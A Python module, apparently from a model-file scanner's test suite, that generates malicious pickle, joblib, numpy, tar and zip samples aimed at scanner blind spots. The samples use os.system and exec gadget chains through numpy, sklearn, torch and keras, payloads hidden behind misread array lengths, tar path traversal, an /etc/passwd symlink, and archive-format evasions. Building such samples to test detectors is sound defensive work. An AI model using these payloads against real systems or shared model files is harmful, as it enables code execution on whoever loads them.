"""Malicious files aimed at the seams of careful scanners: array sizes, trusted names, rarer archive features.

The joblib rows hide a payload right behind raw array bytes whose length only a faithful reader gets right;
the trust rows use names that allow-lists hold; the archive rows use features that readers disagree on.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import bz2
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from .assembler import (
    APPENDS,
    BUILD,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    POP,
    REDUCE,
    SHELL,
    STOP,
    Op,
    build,
    call,
    evil,
    ext,
    get,
    global_,
    inst,
    new,
    pickle,
    proto,
    put,
    raw,
    shell,
    stack_global,
    text,
    tuple_,
    value,
)
from .sample import Sample, write_bytes, write_fixed
from .zipcraft import Member, archive

SG = stack_global
_WRAPPER = SG("joblib.numpy_pickle", "NumpyArrayWrapper")
_NDARRAY = SG("numpy", "ndarray")
_BENIGN = pickle(value({"weights": [1.0, 2.0]}))


def _dtype(name: str, *state: Any) -> Op:
    made = call(SG("numpy", "dtype"), name, False, True)
    return build(made, tuple(state)) if state else made


_BYTE = _dtype("u1")
_OBJECT = _dtype("O", 3, "|", None, None, None, -1, -1, 63)


def _state(**changes: Any) -> dict[str, Any]:
    honest = {"subclass": _NDARRAY, "shape": (8,), "order": "C", "dtype": _BYTE, "allow_mmap": False}
    return honest | changes


def _stream(wrapper: bytes, data: bytes) -> bytes:
    """A list of the array and of the payload's result; joblib writes such streams without frames."""
    return bytes(proto(4) + EMPTY_LIST + MARK + wrapper + Op(data) + shell() + APPENDS + STOP)


def _wrapped(data: bytes, **changes: Any) -> bytes:
    return _stream(build(new(_WRAPPER), _state(**changes)), data)


_JUNK = b"\xff\xfe.\x00"  # not opcodes, with a STOP among them
_DUPLICATE_SHAPE = Op(new(_WRAPPER) + value(_state(shape=(4000,)))[:-1] + text("shape") + value((8,)) + Op(b"u"))
_PADDED = {"names": ["a"], "formats": ["u1"], "itemsize": 64}

_JOBLIB: list[tuple[str, str, Callable[[], bytes]]] = [
    ("wrapper_duplicate_shape.joblib", "joblib/duplicate-shape", lambda: _stream(_DUPLICATE_SHAPE + BUILD, _JUNK * 2)),
    ("wrapper_slot_state.joblib", "joblib/wrapper-slot-state", lambda: _stream(build(new(_WRAPPER), (_state(shape=(4000,)), {"shape": (8,)})), _JUNK * 2)),
    ("wrapper_shape_list.joblib", "joblib/shape-as-list", lambda: _wrapped(_JUNK * 2, shape=[2, 4])),
    ("wrapper_shape_empty.joblib", "joblib/shape-scalar", lambda: _wrapped(b"\xff", shape=())),
    ("wrapper_shape_zero.joblib", "joblib/shape-zero-times-huge", lambda: _wrapped(b"", shape=(0, 2**40))),
    ("wrapper_shape_computed.joblib", "joblib/shape-computed", lambda: _wrapped(_JUNK, shape=call(SG("builtins", "divmod"), 12, 5))),
    ("wrapper_dtype_state.joblib", "joblib/dtype-state-sets-size", lambda: _wrapped(_JUNK * 128, dtype=_dtype("V1", 3, "|", None, None, None, 64, 1, 0))),
    ("wrapper_dtype_padded.joblib", "joblib/dtype-with-padding", lambda: _wrapped(_JUNK * 128, dtype=call(SG("numpy", "dtype"), _PADDED))),
    ("wrapper_dtype_unicode.joblib", "joblib/dtype-unicode-width", lambda: _wrapped(struct.pack("<I", 46) * 56, dtype=_dtype("U7"))),
    ("wrapper_dtype_object.joblib", "joblib/object-array-by-hand", lambda: bytes(proto(4) + build(new(_WRAPPER), _state(shape=(1,), dtype=_OBJECT))) + pickle(call(SG("numpy", "array"), [shell()])) + b"."),
    ("wrapper_alignment.joblib", "joblib/alignment-padding", lambda: _wrapped(b"\x07" + b"\xff" * 7 + _JUNK * 2, numpy_array_alignment_bytes=16)),
    ("wrapper_alignment_zero.joblib", "joblib/alignment-without-padding", lambda: _wrapped(b"\x00" + _JUNK * 2, numpy_array_alignment_bytes=0)),
    ("wrapper_by_call.joblib", "joblib/wrapper-by-constructor", lambda: _stream(call(_WRAPPER, _NDARRAY, (8,), "C", _BYTE) + value({}) + BUILD, b"\x00" + _JUNK * 2)),
    ("wrapper_by_inst.joblib", "joblib/wrapper-by-inst", lambda: _stream(inst("joblib.numpy_pickle", "NumpyArrayWrapper", _NDARRAY, (8,), "C", _BYTE) + value({}) + BUILD, b"\x00" + _JUNK * 2)),
    ("wrapper_by_reconstructor.joblib", "joblib/wrapper-by-reconstructor", lambda: _stream(call(SG("copyreg", "_reconstructor"), _WRAPPER, SG("builtins", "object"), None) + value(_state()) + BUILD, _JUNK * 2)),
    ("wrapper_class_attribute.joblib", "joblib/wrapper-class-patched", lambda: _stream(build(_WRAPPER, (None, {"shape": (8,)})) + POP + build(new(_WRAPPER), {k: v for k, v in _state().items() if k != "shape"}), _JUNK * 2)),
    ("wrapper_memo_after.joblib", "joblib/wrapper-in-memo", lambda: bytes(proto(4) + EMPTY_LIST + MARK + new(_WRAPPER) + put(0) + value(_state()) + BUILD) + _JUNK * 2 + bytes(get(0) + value({"shape": (4,)}) + BUILD) + _JUNK + bytes(shell() + APPENDS + STOP)),
    ("wrapper_memmap.joblib", "joblib/memmap-subclass", lambda: _wrapped(_JUNK * 2, subclass=SG("numpy", "memmap"), allow_mmap=True)),
    ("wrapper_second_payload.joblib", "joblib/payload-in-state-of-wrapper", lambda: _wrapped(_JUNK * 2, order=call(SG("builtins", "str"), shell()))),
]  # fmt: skip

_TRUST: list[tuple[str, str, bytes, bool, tuple[str, ...], str]] = [
    ("generator_constructor.pkl", "trust/numpy-generator-constructor", pickle(call(SG("numpy.random._pickle", "__generator_ctor"), SHELL, SG("os", "system"))), True, ("numpy",), ""),
    ("randomstate_constructor.pkl", "trust/numpy-randomstate-constructor", pickle(call(SG("numpy.random._pickle", "__randomstate_ctor"), SHELL, SG("joblib.disk", "os.system"))), True, ("numpy", "joblib"), ""),
    ("ndarray_of_calls.pkl", "trust/numpy-object-array-of-call", pickle(call(SG("numpy", "array"), call(SG("builtins", "map"), SG("os", "system"), [SHELL]))), False, (), ""),
    ("ordered_dict_of_map.pkl", "trust/ordered-dict-update", pickle(call(SG("collections", "OrderedDict.update"), call(SG("collections", "OrderedDict")), call(SG("builtins", "map"), SG("os", "system"), [SHELL]))), True, (), ""),
    ("setitems_defaultdict.pkl", "trust/defaultdict-factory-in-state", pickle(call(SG("operator", "getitem"), build(call(SG("collections", "defaultdict")), (None, {"default_factory": call(SG("functools", "partial"), SG("os", "system"), SHELL)})), "w")), True, (), ""),
    ("class_method_replaced.pkl", "trust/estimator-class-sabotaged", pickle(build(SG("sklearn.linear_model", "LogisticRegression"), (None, {"predict": SG("numpy", "zeros")}))), False, (), ""),
    ("metric_defaults.pkl", "trust/metric-function-sabotaged", pickle(build(SG("sklearn.metrics", "accuracy_score"), (None, {"__defaults__": (False,)}))), False, (), ""),
    ("module_attribute_replaced.pkl", "trust/module-attribute-sabotaged", pickle(build(SG("numpy", "linalg"), {"norm": SG("numpy", "zeros")})), False, (), ""),
    ("registry_patched.pkl", "trust/pickle-dispatch-table", pickle(SG("copyreg", "dispatch_table") + SG("numpy", "ndarray") + SG("os", "system") + Op(b"s")), False, (), ""),
    ("estimator_as_callable.pkl", "trust/estimator-method-shadowed", pickle(build(new(SG("sklearn.linear_model", "LinearRegression")), {"predict": SG("os", "system")})), False, (), ""),
    ("keras_unpickle_model.pkl", "trust/keras-model-in-pickle", pickle(call(SG("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model"), call(SG("_io", "BytesIO"), raw(b"PK\x03\x04")))), False, (), ""),
    ("storage_from_bytes.pkl", "trust/torch-storage-from-bytes", pickle(call(SG("torch.storage", "_load_from_bytes"), raw(evil(2)))), False, (), ""),
    ("tensor_type_v2.pkl", "trust/torch-rebuild-from-type", pickle(call(SG("torch._tensor", "_rebuild_from_type_v2"), SG("os", "system"), SG("builtins", "object"), (SHELL,), {})), False, (), ""),
    ("partial_in_estimator.pkl", "trust/partial-in-estimator", pickle(build(new(SG("sklearn.preprocessing", "FunctionTransformer")), {"func": call(SG("functools", "partial"), SG("builtins", "exec"), "import os")})), False, (), ""),
    ("codecs_encode_chain.pkl", "trust/codecs-encode-then-loads", pickle(call(SG("_pickle", "loads"), call(SG("_codecs", "encode"), evil(0).decode("latin1"), "latin1"))), True, (), ""),
    ("bytes_through_array.pkl", "trust/payload-bytes-in-array", pickle(call(SG("pickle", "loads"), call(SG("numpy", "ndarray.tobytes"), call(SG("numpy", "frombuffer"), raw(evil()), "u1")))), True, ("numpy",), ""),
    ("extension_opaque.pkl", "trust/extension-code-unregistered", pickle(call(ext(77), "weights")), False, (), ""),
    ("comparison_key.pkl", "trust/user-list-key", pickle(call(SG("collections", "UserList.sort"), call(SG("collections", "UserList"), [1])) + POP + call(SG("heapq", "merge"), [1]) + POP + call(SG("builtins", "list"), call(SG("heapq", "nlargest"), 1, [SHELL], SG("os", "system")))), True, (), ""),
    ("shadowed_submodule.pkl", "trust/dotted-through-class", pickle(call(SG("sklearn.base", "BaseEstimator.get_params.__globals__.__getitem__"), "inspect") + POP + call(SG("sklearn.base", "inspect.os.system"), SHELL)), True, ("sklearn",), ""),
    ("underscore_import.pkl", "trust/importlib-of-trusted-package", pickle(call(SG("numpy", "__builtins__.__getitem__"), "__import__") + put(0) + POP + call(call(SG("operator", "attrgetter"), "system"), Op(get(0) + tuple_("os") + REDUCE)) + Op(tuple_(SHELL)) + REDUCE), True, ("numpy",), ""),
    ("random_state_newobj.pkl", "trust/newobj-with-payload-argument", pickle(SG("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ + value("w") + shell() + Op(b"s")), True, (), ""),
    ("global_in_dictionary.pkl", "trust/bare-reference", pickle(value({"loss": SG("os", "system")})), False, (), ""),
    ("inst_through_module.pkl", "trust/text-global-of-trusted-module", pickle(global_("numpy", "f2py") + POP + call(SG("numpy", "f2py.crackfortran.myeval"), "__import__('os').system('touch \"$VIOLET_MARKER\"')")), True, ("numpy",), ""),
]  # fmt: skip


def _structured() -> bytes:
    """A structured array with an object field is a pickle all the same."""
    header = b"{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil()


def _npy(version: tuple[int, int], descr: str = "'|O'") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': True, 'shape': (1,), }}".encode().ljust(117) + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack("<I", len(header)) + header + evil()


def _pax(records: dict[str, str], name: str = "weights.bin", kind: bytes = tarfile.REGTYPE) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as target:
        info = tarfile.TarInfo(name)
        info.type, info.pax_headers = kind, records
        target.addfile(info, io.BytesIO(b""))
    return buffer.getvalue()


def _zip_with(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        target.writestr(zipfile.ZipInfo("data.pkl"), evil(), method)
    return buffer.getvalue()


def _unicode_path() -> bytes:
    """An Info-ZIP Unicode Path extra field (0x7075) that renames the member for those who honour it."""
    field = b"\x01" + struct.pack("<I", zlib.crc32(b"read.txt")) + b"data.pkl"
    return archive([Member(b"read.txt", evil(), extra=struct.pack("<HH", 0x7075, len(field)) + field)])


def _zip_crypto(data: bytes, password: bytes) -> bytes:
    """Traditional PKWARE encryption (APPNOTE 6.1), with a constant header."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = ~zlib.crc32(bytes([byte]), ~keys[0] & 0xFFFFFFFF) & 0xFFFFFFFF
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = ~zlib.crc32(bytes([keys[1] >> 24]), ~keys[2] & 0xFFFFFFFF) & 0xFFFFFFFF

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in bytes(11) + bytes([zlib.crc32(data) >> 24]) + data:
        mask = (keys[2] & 0xFFFF) | 2
        out.append(byte ^ (((mask * (mask ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def _encrypted_zip() -> bytes:
    data = evil()
    packed = _zip_crypto(data, b"infected")
    crc = zlib.crc32(data)
    return archive([Member(b"data.pkl", packed, flags=1, crc=crc, size=len(data))])


def _zstd_skippable() -> bytes:
    from backports import zstd

    return struct.pack("<II", 0x184D2A50, 16) + bytes(16) + bytes(zstd.compress(evil()))


_CONTAINERS: list[tuple[str, str, Callable[[], bytes], str, tuple[str, ...]]] = [
    ("structured_object.npy", "numpy/structured-object-field", _structured, "numpy", ("numpy",)),
    ("version_2.npy", "numpy/header-version-2", lambda: _npy((2, 0)), "numpy", ("numpy",)),
    ("version_3.npy", "numpy/header-version-3", lambda: _npy((3, 0)), "numpy", ("numpy",)),
    ("object_alias.npy", "numpy/object-type-alias", lambda: _npy((2, 0), "'O8'"), "numpy", ("numpy",)),
    ("nested_type.npy", "numpy/nested-object-type", lambda: _npy((2, 0), "[('a', [('b', 'O')], (2,))]"), "numpy", ("numpy",)),
    ("array_then_pickle.npy", "numpy/pickle-after-array", lambda: b"\x93NUMPY\x01\x00\x36\x00{'descr':'|u1','fortran_order':False,'shape':(4,)}    \n" + bytes(4) + evil(), "", ()),
    ("plain_member.npz", "numpy/npz-foreign-member", lambda: archive([Member(b"weights", evil())]), "", ()),
    ("pax_path.tar", "tar/pax-path", lambda: _pax({"path": "../violet_marker"}), "tar", ()),
    ("pax_link.tar", "tar/pax-link", lambda: _pax({"linkpath": "/etc/passwd", "path": "config.json"}, kind=tarfile.SYMTYPE), "", ()),
    ("pax_size.tar", "tar/pax-size-lie", lambda: _pax({"size": str(2**60)}), "", ()),
    ("zip_bzip2.zip", "zip/bzip2-member", lambda: _zip_with(zipfile.ZIP_BZIP2), "unzip", ()),
    ("zip_lzma.zip", "zip/lzma-member", lambda: _zip_with(zipfile.ZIP_LZMA), "unzip", ()),
    ("zip_unicode_path.zip", "zip/unicode-path-extra", _unicode_path, "unzip", ()),
    ("zip_encrypted.zip", "zip/encrypted-member", _encrypted_zip, "", ()),
    ("zip_utf8_flag.zip", "zip/name-encoding-flag", lambda: archive([Member("däta.pkl".encode(), evil(), flags=0x800, central_flags=0)]), "", ()),
    ("zip_version_high.zip", "zip/version-needed-lie", lambda: archive([Member(b"data.pkl", evil(), version=255)]), "", ()),
    ("xz_two_streams.pkl.xz", "wrapper/xz-multi-stream", lambda: lzma.compress(evil()[:30]) + lzma.compress(evil()[30:]), "compressed", ()),
    ("bz2_two_streams.pkl.bz2", "wrapper/bz2-multi-stream", lambda: bz2.compress(evil()[:30]) + bz2.compress(evil()[30:]), "compressed", ()),
    ("bz2_misnamed.pkl", "wrapper/bz2-named-pickle", lambda: bz2.compress(evil()), "joblib", ("joblib",)),
    ("zlib_misnamed.bin", "wrapper/zlib-named-bin", lambda: zlib.compress(evil(), 0), "joblib", ("joblib",)),
    ("gzip_misnamed.safetensors", "wrapper/gzip-named-safetensors", lambda: _gzip(), "joblib", ("joblib",)),
    ("zstd_skippable.zst", "wrapper/zstd-skippable-frame", _zstd_skippable, "", ("backports.zstd",)),
    ("lzma_raw_named.joblib", "wrapper/lzma-alone-named-joblib", lambda: lzma.compress(evil(), lzma.FORMAT_ALONE), "joblib", ("joblib",)),
    ("rar_model.bin", "wrapper/rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(40) + evil(), "", ()),
]  # fmt: skip


def _gzip() -> bytes:
    import gzip

    return gzip.compress(evil(), mtime=0)


SAMPLES = (
    *(
        Sample(
            name,
            technique,
            True,
            True,
            write_bytes(name, content),
            "joblib",
            ("joblib", "numpy"),
            "https://huggingface.co/aisecre/joblib-numpy-inline-bytes-scanner-bypass",
        )
        for name, technique, content in _JOBLIB
    ),
    *(
        Sample(
            f"trust_{name}",
            technique,
            True,
            fires,
            write_fixed(f"trust_{name}", content),
            "pickle" if fires else "",
            needs,
            source,
        )
        for name, technique, content, fires, needs, source in _TRUST
    ),
    *(
        Sample(name, technique, True, bool(loader), write_bytes(name, content), loader, needs)
        for name, technique, content, loader, needs in _CONTAINERS
    ),
)
